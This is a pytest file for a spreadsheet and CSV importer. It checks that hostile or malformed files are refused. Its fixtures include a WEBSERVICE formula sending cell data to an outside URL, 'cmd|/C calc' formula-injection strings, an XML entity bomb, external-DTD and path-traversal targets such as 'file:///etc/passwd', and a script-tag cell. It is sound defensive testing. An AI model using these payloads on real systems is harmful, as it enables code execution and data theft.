"""Files from strangers, by what they do: each is read right, or refused in bounded time and memory with its reason.

What is wrong with a table's cells stands in `test_bad_input`; here are files that are something other than they seem.
"""

from __future__ import annotations

import datetime
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest

from compendium import dictionary, importers
from compendium.dictionary import sheet_reader, workbook
from compendium.errors import InputRefused
from compendium.locality import load_locality
from compendium.paths import Root
from tests.dictionary_samples import CASE_HEADER, both, check, table, told
from tests.shared import ROOT
from tests.spec.hostile import MAIN, book, heading, number, read, row, said, sheet, text

NUMBERS = """
name: numbers
title: Numbers
description: One row a number.
unit: number
sensitivity: public
primaryKey: [id]
fields:
  - {name: id}
  - {name: value, type: number}
  - {name: whole, type: integer}
  - {name: day, type: date}
"""


def case(at: int = 2, day: str = "", stage: str = "open") -> str:
    return row(at, text(f"A{at}", f"C-{at:03d}"), day or text(f"B{at}", "2022-05-01"), text(f"D{at}", stage))


# Excel's habits


def test_days_are_counted_from_1900_or_from_1904_as_the_workbook_says(tmp_path: Path) -> None:
    """Excel's 44682 is 1 May 2022; a workbook of an old Mac writes the same day as 43220."""
    rows = (heading(), case(2, number("B2", 44682, 1)), case(3, number("B3", 44682, 2)))
    old = sheet(heading(), case(2, number("B2", 43220, 1)), case(3, number("B3", 43220, 2)))
    windows = read(book(tmp_path / "a.xlsx", sheet(*rows)))
    mac = read(book(tmp_path / "b.xlsx", old, properties='<workbookPr date1904="1"/>'))
    for checked in (windows, mac):
        assert checked.problems == []
        assert checked.tables["cases"]["recorded_on"].to_list() == [datetime.date(2022, 5, 1)] * 2


def test_a_number_that_nobody_called_a_date_is_no_date(tmp_path: Path) -> None:
    assert "row 2, column recorded_on (B2): A text of 5 characters is not a date." in said(
        book(tmp_path / "a.xlsx", sheet(heading(), case(2, number("B2", 44682))))
    )


def test_a_date_written_as_text_the_english_way_or_with_a_time_is_refused(tmp_path: Path) -> None:
    for cell in (text("B2", "01/05/2022"), number("B2", 44682.5, 1), number("B2", -1e9, 1), number("B2", 1e308, 1)):
        assert "column recorded_on (B2): A text of" in said(book(tmp_path / "a.xlsx", sheet(heading(), case(2, cell))))


def test_a_code_of_which_excel_made_a_date_is_told_as_that(tmp_path: Path) -> None:
    """10-13 becomes 13 October; what was typed can't be known from it."""
    cells = row(2, text("A2", "C-002"), text("B2", "2022-05-01"), number("D2", 46308, 1))
    told_of = said(book(tmp_path / "a.xlsx", sheet(heading(), cells)))
    assert told_of == (
        "a.xlsx, sheet cases, row 2, column stage (D2): Excel has made a date of what was typed. "
        "Format the column as text, then type it again."
    )


def test_a_formula_is_refused_also_where_its_last_result_is_a_code(tmp_path: Path) -> None:
    cells = row(
        2,
        *(text("A2", "C-002"), text("B2", "2022-05-01")),
        '<c r="D2" t="str"><f>WEBSERVICE("http://x/"&amp;A2)</f><v>open</v></c>',
    )
    told_of = said(book(tmp_path / "a.xlsx", sheet(heading(), cells)))
    assert told_of == "a.xlsx, sheet cases, row 2, column stage (D2): A formula stands here. Write the value itself."


def test_numbers_stored_as_text_blanks_and_thousands_are_as_in_csv(tmp_path: Path) -> None:
    names = ("id", "value", "whole", "day")
    cells = [
        row(2, text("A2", "a"), text("B2", "0.5"), text("C2", "14"), text("D2", "2022-05-01")),
        row(3, text("A3", "b"), text("B3", "1,234.5"), text("C3", "1,234")),
        row(4, text("A4", "c"), text("B4", "0.5 "), text("C4", " 14")),
    ]
    frame, problems = dictionary.read(book(tmp_path / "numbers.xlsx", sheet(heading(*names), *cells)), table(NUMBERS))
    (tmp_path / "numbers.csv").write_text(
        'id,value,whole,day\na,0.5,14,2022-05-01\nb,"1,234.5","1,234",\nc,0.5 , 14,\n', encoding="utf-8"
    )
    same, in_csv = dictionary.read(tmp_path / "numbers.csv", table(NUMBERS))
    assert frame.equals(same)
    assert frame.row(0) == ("a", 0.5, 14, datetime.date(2022, 5, 1))
    assert [(one.row, one.column, one.message) for one in problems] == [
        (one.row, one.column, one.message) for one in in_csv
    ]
    assert [(one.row, one.column) for one in problems] == [(3, "value"), (3, "whole"), (4, "value"), (4, "whole")]


@pytest.mark.parametrize(
    ("line", "column"),
    [
        ("a,1e309,1,", "value"),
        ("a,inf,1,", "value"),
        ("a,nan,1,", "value"),
        ("a,0.5,1e308,", "whole"),
        ("a,0.5,99999999999999999999,", "whole"),
        ("a,0.5,1.0,", "whole"),
        ("a,0.5,١٤,", "whole"),
        ("a,0.5,1,0000-01-01", "day"),
        ("a,0.5,1,10000-01-01", "day"),
        ("a,0.5,1,2023-02-29", "day"),
        ("a,0.5,1,2023-1-1", "day"),
    ],
)
def test_numbers_and_days_beyond_what_they_can_be_are_refused(tmp_path: Path, line: str, column: str) -> None:
    (tmp_path / "numbers.csv").write_text(f"id,value,whole,day\n{line}\n", encoding="utf-8")
    _, problems = dictionary.read(tmp_path / "numbers.csv", table(NUMBERS))
    assert [(problem.row, problem.column) for problem in problems] == [(2, column)]


def test_the_largest_number_is_a_number(tmp_path: Path) -> None:
    (tmp_path / "numbers.csv").write_text("id,value,whole,day\na,1e308,1,0001-01-01\n", encoding="utf-8")
    frame, problems = dictionary.read(tmp_path / "numbers.csv", table(NUMBERS))
    assert problems == []
    assert frame.row(0) == ("a", 1e308, 1, datetime.date(1, 1, 1))
    path = book(tmp_path / "n.xlsx", sheet(heading("id", "value", "whole", "day"), row(2, number("B2", "1E+308"))))
    assert dictionary.read(path, table(NUMBERS))[0]["value"].to_list() == [1e308]


def test_a_strict_workbook_with_prefixed_names_and_iso_dates_is_read(tmp_path: Path) -> None:
    """ISO 29500 Strict, as some programs save it."""
    strict = "http://purl.oclc.org/ooxml/spreadsheetml/main"
    cells = "".join(f"<x:c t='inlineStr'><x:is><x:t>{name}</x:t></x:is></x:c>" for name in CASE_HEADER.split(","))
    day = "<x:c t='d'><x:v>2022-05-01T00:00:00.000Z</x:v></x:c>"
    record = f"<x:c t='inlineStr'><x:is><x:t>C-001</x:t></x:is></x:c>{day}<x:c/>"
    record += "<x:c t='inlineStr'><x:is><x:t>open</x:t></x:is></x:c>"
    xml = f"<x:worksheet xmlns:x='{strict}'><x:sheetData><x:row>{cells}</x:row><x:row>{record}</x:row></x:sheetData>"
    checked = read(book(tmp_path / "a.xlsx", xml + "</x:worksheet>"))
    assert checked.problems == []
    assert checked.tables["cases"].rows() == [("C-001", datetime.date(2022, 5, 1), None, "open")]


def test_rich_text_is_joined_and_the_reading_aid_of_japanese_left_out(tmp_path: Path) -> None:
    runs = "<r><t>op</t></r><r><rPr><b/></rPr><t>en</t></r><rPh sb='0' eb='1'><t>x</t></rPh>"
    strings = f'<sst xmlns="{MAIN}"><si>{runs}</si></sst>'
    cells = row(2, text("A2", "C-002"), text("B2", "2022-05-01"), '<c r="D2" t="s"><v>0</v></c>')
    checked = read(book(tmp_path / "a.xlsx", sheet(heading(), cells), strings=strings))
    assert checked.problems == []
    assert checked.tables["cases"]["stage"].to_list() == ["open"]


def test_characters_that_xml_cannot_hold_are_refused_where_they_stand(tmp_path: Path) -> None:
    for escaped in ("_xD83D_", "_x0000_", "op_xDC00_en"):
        told_of = said(book(tmp_path / "a.xlsx", sheet(heading(), case(2, stage=escaped))))
        assert "row 2, column stage (D2): Half a character, or a NUL, stands here." in told_of
    assert "is a code with blanks around it" in said(
        book(tmp_path / "a.xlsx", sheet(heading(), case(2, stage="open_x000D_")))
    )


# Sheets


def test_a_guide_with_merged_cells_and_formulas_beside_the_table_does_not_disturb(tmp_path: Path) -> None:
    import openpyxl

    made = openpyxl.Workbook()
    made.active.title = "Read me first"
    made.active["A1"] = "=1+1"
    made.active.merge_cells("A1:C3")
    records = made.create_sheet("Cases ")
    for line in (CASE_HEADER.split(","), ["C-001", "2022-05-01", None, "open"]):
        records.append(line)
    made.save(tmp_path / "a.xlsx")
    checked = read(tmp_path / "a.xlsx")
    assert checked.problems == []
    assert checked.tables["cases"].height == 1


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_a_hidden_sheet_is_told_and_not_read(tmp_path: Path, state: str) -> None:
    assert said(book(tmp_path / "a.xlsx", sheet(heading(), case()), state=state)) == (
        "a.xlsx: The sheet cases is hidden. Show it, so that people see what is read, or delete it."
    )


def test_hidden_rows_and_columns_are_read_and_that_is_said(tmp_path: Path) -> None:
    columns = '<cols><col min="2" max="3" hidden="1"/><col min="9" max="16384" hidden="1"/></cols><sheetData>'
    hidden = case(3).replace("<row ", '<row hidden="1" ')
    content = sheet(heading(), case(2), hidden).replace("<sheetData>", columns)
    checked = read(book(tmp_path / "a.xlsx", content))
    assert checked.tables["cases"].height == 2
    assert [(problem.message, problem.level) for problem in checked.problems] == [
        ("1 row is hidden.", "warning"),
        ("2 columns are hidden.", "warning"),
    ]


def test_headings_in_the_second_row_a_doubled_one_and_one_without_name_are_told(tmp_path: Path) -> None:
    second = row(2, text("A2", "case_id"))
    assert "row 1: Row 1 is empty." in said(book(tmp_path / "a.xlsx", sheet(second)))
    doubled = heading("case_id", "recorded_on", "outcome_on", "stage", "stage", " ", "x")
    told_of = said(book(tmp_path / "a.xlsx", sheet(doubled, case())))
    assert "row 1, column stage (D1): The column stands twice." in told_of or "The column stands twice." in told_of
    assert "The column has no name." in told_of
    assert "column x (G1): Nobody declared this column." in told_of


def test_rows_that_were_left_empty_are_told_and_the_others_keep_their_numbers(tmp_path: Path) -> None:
    told_of = said(book(tmp_path / "a.xlsx", sheet(heading(), case(2), case(5, stage="shut"))))
    lines = told_of.split("\n")
    assert [line.split(":")[0] for line in lines] == [
        "a.xlsx, sheet cases, row 3",
        "a.xlsx, sheet cases, row 4",
        "a.xlsx, sheet cases, row 5, column stage (D5)",
    ]


def test_cells_far_beyond_the_table_are_told_without_filling_the_space_between(tmp_path: Path) -> None:
    far = row(1_048_576, number("XFD1048576", 1))
    problems = read(book(tmp_path / "a.xlsx", sheet(heading(), case(), far))).problems
    assert len(problems) <= 10_002
    assert any("The row has 16384 cells, the header 4." in str(problem) for problem in problems)
    wide = row(1, *(text(f"A{letter}1" if letter else "A1", "x") for letter in ("", "A")), text("XFD1", "x"))
    assert "The sheet is wider than 500 columns." in said(book(tmp_path / "a.xlsx", sheet(wide)))


def test_a_sheet_of_formatted_but_empty_cells_is_read(tmp_path: Path) -> None:
    blank = "".join(row(at, *(f'<c r="{letter}{at}" s="1"/>' for letter in "ABCDEFGH")) for at in range(3, 2000))
    checked = read(book(tmp_path / "a.xlsx", sheet(heading(), case(), blank)))
    assert checked.problems == []
    assert checked.tables["cases"].height == 1


# What is no honest workbook


@pytest.mark.parametrize(
    "content",
    [
        sheet(heading(), case(3), case(2)),
        sheet(heading(), row(2, text("B2", "x"), text("A2", "x"))),
        sheet(heading(), row(2, text("A2", "x"), text("A2", "y"))),
        sheet(heading(), row(2, text("A9", "x"))),
        sheet(heading(), row(99_999_999_999, text("A2", "x"))),
        sheet(heading(), '<row r="-1"/>'),
        sheet(heading(), row(2, text("ZZZ2", "x"))),
        sheet(heading(), row(2, '<c r="A2" t="s"><v>7</v></c>')),
        sheet(heading(), '<row r="2"><c r="A2"><v>1</v>'),
        f'<worksheet xmlns="{MAIN}"><sheetData>' + "<a>" * 100,
        "no xml",
        b"\xff\xfe",
        f'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet xmlns="{MAIN}"><sheetData/></worksheet>',
        f'<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd"><worksheet xmlns="{MAIN}"><sheetData/></worksheet>',
        sheet("".join(f"<n{at}/>" for at in range(2_000))),
    ],
    ids=[
        *("rows backwards", "cells backwards", "a cell twice", "a cell of another row", "a row beyond the last"),
        *("a negative row", "a column beyond the last", "a text that isn't there", "cut off", "nested without end"),
        *("no xml", "binary", "entities", "a document type elsewhere", "names without end"),
    ],
)
def test_a_sheet_that_no_program_writes_is_refused(tmp_path: Path, content: str | bytes) -> None:
    assert said(book(tmp_path / "a.xlsx", content)) == (
        "a.xlsx: The workbook can't be read. Open it, save it as .xlsx or CSV UTF-8."
    )


def test_links_macros_and_embedded_files_are_refused(tmp_path: Path) -> None:
    for part in (
        "xl/externalLinks/externalLink1.xml",
        "xl/vbaProject.bin",
        "xl/embeddings/x.bin",
        "xl/connections.xml",
    ):
        told_of = said(book(tmp_path / "a.xlsx", sheet(heading(), case()), more={part: "x"}))
        assert told_of.startswith("a.xlsx: The workbook holds macros, links or embedded objects.")


def test_a_part_that_lies_outside_the_archive_is_not_fetched(tmp_path: Path) -> None:
    (tmp_path / "secret.xml").write_text(sheet(heading(), case()))
    path = book(tmp_path / "a.xlsx", sheet(heading(), case()))
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for target in (b"../../secret.xml", b"/secret.xml", b"file:///etc/passwd", b"http://127.0.0.1:1/x.xml"):
        with zipfile.ZipFile(path, "w") as archive:
            for name, data in parts.items():
                archive.writestr(name, data.replace(b"worksheets/sheet1.xml", target) if "rels" in name else data)
        assert said(path).startswith("a.xlsx: The workbook has 0 visible sheets")


def test_a_locked_workbook_and_an_old_one_are_named(tmp_path: Path) -> None:
    (tmp_path / "a.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    assert said(tmp_path / "a.xlsx").startswith("a.xlsx: The workbook is locked with a password, or an old .xls")


def test_the_same_part_twice_is_refused_since_programs_differ_in_which_they_show(tmp_path: Path) -> None:
    path = book(tmp_path / "a.xlsx", sheet(heading(), case()))
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/worksheets/sheet1.xml", sheet(heading(), case(2, stage="outcome")))
    assert "can't be read" in said(path)


# More than a machine holds


def test_a_workbook_with_more_cells_than_a_table_is_refused_while_it_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheet_reader, "MOST_CELLS", 10_000)
    endless = sheet(heading(), '<row r="2">' + "<c/>" * 10_000 + "</row>")
    path = book(tmp_path / "a.xlsx", endless, pack=zipfile.ZIP_STORED)
    assert "The sheet has more than" in said(path)


def test_short_rows_below_one_wide_row_are_refused_before_their_gaps_fill_the_memory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A megabyte of XML could ask for a million rows of 500 cells each: gigabytes of nothing."""
    monkeypatch.setattr(workbook, "MOST_PLACES", 400)
    rows = [row(at, text(f"A{at}", "C-00001")) for at in range(2, 110)]
    path = book(tmp_path / "cases.xlsx", sheet(heading(), *rows))
    assert "The sheet has more than" in said(path)
    with pytest.raises(InputRefused, match="The sheet has more than"):
        workbook.grid(path, "cases", path.name)


def test_one_endless_attribute_is_refused_before_it_is_in_memory(tmp_path: Path) -> None:
    content = f'<worksheet xmlns="{MAIN}"><sheetData><row r="1" x="{"a" * 5_000_000}"/></sheetData></worksheet>'
    assert "can't be read" in said(book(tmp_path / "a.xlsx", content, pack=zipfile.ZIP_STORED))


def test_a_text_of_many_megabytes_is_cut_and_told_as_too_long(tmp_path: Path) -> None:
    cells = row(2, text("A2", "C" * 5_000_000), text("B2", "2022-05-01"), text("D2", "open"))
    path = book(tmp_path / "a.xlsx", sheet(heading(), cells), pack=zipfile.ZIP_STORED)
    assert "A text of 32768 characters is longer than 32767 characters." in said(path)


MEASURED = """
import re, sys, time
from pathlib import Path
from tests.shared import ROOT
from tests.spec.hostile import said
told = said(Path(sys.argv[1]))
peak = re.search("VmHWM: *([0-9]+)", Path("/proc/self/status").read_text().replace("\\t", ""))
print(int(peak[1]) // 1024, round(time.process_time(), 1), told, sep="|")
"""


@pytest.mark.parametrize(
    ("before", "again", "after", "why"),
    [
        (b"", b"xx", b"", "row 2: The row is longer than 1,048,576 bytes."),
        (b'"', b"x\n", b'"', "row 2: The row is longer than 1,048,576 bytes."),
        (b"", b"\n\n", b"x", "The table has more than 5,000,000 rows."),
    ],
    ids=["one cell", "quoted line ends", "only line ends"],
)
def test_a_line_of_a_hundred_megabytes_costs_seconds_and_no_more_than_a_few_times_its_size(
    tmp_path: Path, before: bytes, again: bytes, after: bytes, why: str
) -> None:
    """Measured where this was written: 1 to 2 s and 260 MB, of which 80 MB are the libraries."""
    path = tmp_path / "cases.csv"
    with path.open("wb") as stream:
        stream.write(CASE_HEADER.encode() + b"\n" + before)
        for _ in range(100):
            stream.write(again * 500_000)
        stream.write(after + b"\n")
    ran = subprocess.run(
        [sys.executable, "-c", MEASURED, str(path)], cwd=ROOT, capture_output=True, check=True, text=True
    )
    megabytes, seconds, told_of = ran.stdout.strip().split("|", 2)
    assert why in told_of
    assert int(megabytes) < 400
    assert float(seconds) < 20


@pytest.mark.parametrize(
    "content", [b"Month,n\n" + b"ab," * 400_000, b"Month,n\n" + b'"a\nb",' * 2_000], ids=["a line", "many lines"]
)
def test_an_official_file_with_a_row_without_end_is_refused(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "a.csv").write_bytes(content)
    problems = importers.read("police-uk-lsoa-counts", tmp_path / "a.csv").errors
    assert "This is not CSV: a row has no end." in str(problems[-1])


def test_an_official_workbook_is_read_with_the_same_bounds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheet_reader, "MOST_CELLS", 1_000)
    endless = sheet('<row r="1">' + "<c/>" * 1_001 + "</row>")
    path = book(tmp_path / "a.xlsx", endless, name="Table P1", pack=zipfile.ZIP_STORED)
    problems = importers.read("ons-pfa-workbook", path).errors
    assert "The sheet has more than" in str(problems[0])
    narrow = book(tmp_path / "b.xlsx", sheet(row(1, text("A1", "x")), row(2, text("A2", "Area Code"))), name="Table P1")
    assert importers.read("ons-pfa-workbook", narrow).errors


# Links


def test_a_link_out_of_the_locality_is_refused_for_csv_and_workbook(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "cases.csv").write_text(f"{CASE_HEADER}\nC-001,2022-05-01,,open\n")
    book(outside / "cases.xlsx", sheet(heading(), case()))
    home = tmp_path / "checkout" / "localities" / "blackpool"
    home.mkdir(parents=True)
    for name in ("cases.csv", "cases.xlsx", "folder/cases.csv"):
        (home / "locality.yml").write_text(
            textwrap.dedent(
                f"""
                id: blackpool
                name: Blackpool
                period: {{from: 2022-05, to: 2023-04}}
                sources:
                  cases: {{file: {name}, provenance: synthetic}}
                """
            )
        )
        link = home / name.partition("/")[0]
        link.symlink_to(outside if "/" in name else outside / name)
        place = load_locality(Root(tmp_path / "checkout"), "blackpool")
        (problem,) = place.problems(both())
        assert "the file of cases leads out of its folder" in problem.message


# Text that other programs would carry out


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "@SUM(A1)", "+A1", "-cmd|' /C calc'!A0", "\t=1+1", " =1+1", "=cmd|'/C calc'!A1"],
)
def test_a_cell_that_a_spreadsheet_would_run_is_refused(tmp_path: Path, cell: str) -> None:
    (tmp_path / "numbers.csv").write_text(f'id,value,whole,day\n"{cell}",1,1,\n', encoding="utf-8")
    _, problems = dictionary.read(tmp_path / "numbers.csv", table(NUMBERS))
    assert any("would be run as a formula" in problem.message for problem in problems)


def test_telephone_numbers_and_negative_numbers_are_no_formulas(tmp_path: Path) -> None:
    (tmp_path / "numbers.csv").write_text("id,value,whole,day\n+44 1253 000000,-1.5,-3,\n", encoding="utf-8")
    assert dictionary.read(tmp_path / "numbers.csv", table(NUMBERS))[1] == []


def test_markup_in_a_sensitive_cell_is_not_repeated_and_in_a_public_one_is_only_text(tmp_path: Path) -> None:
    markup = "<script>alert(1)</script>{{< env HOME >}}"
    lines = told(check(tmp_path, cases=f"{CASE_HEADER}\nC-001,2022-05-01,,{markup}\n"))
    assert "script" not in "\n".join(lines)
    assert "env" not in "\n".join(lines)
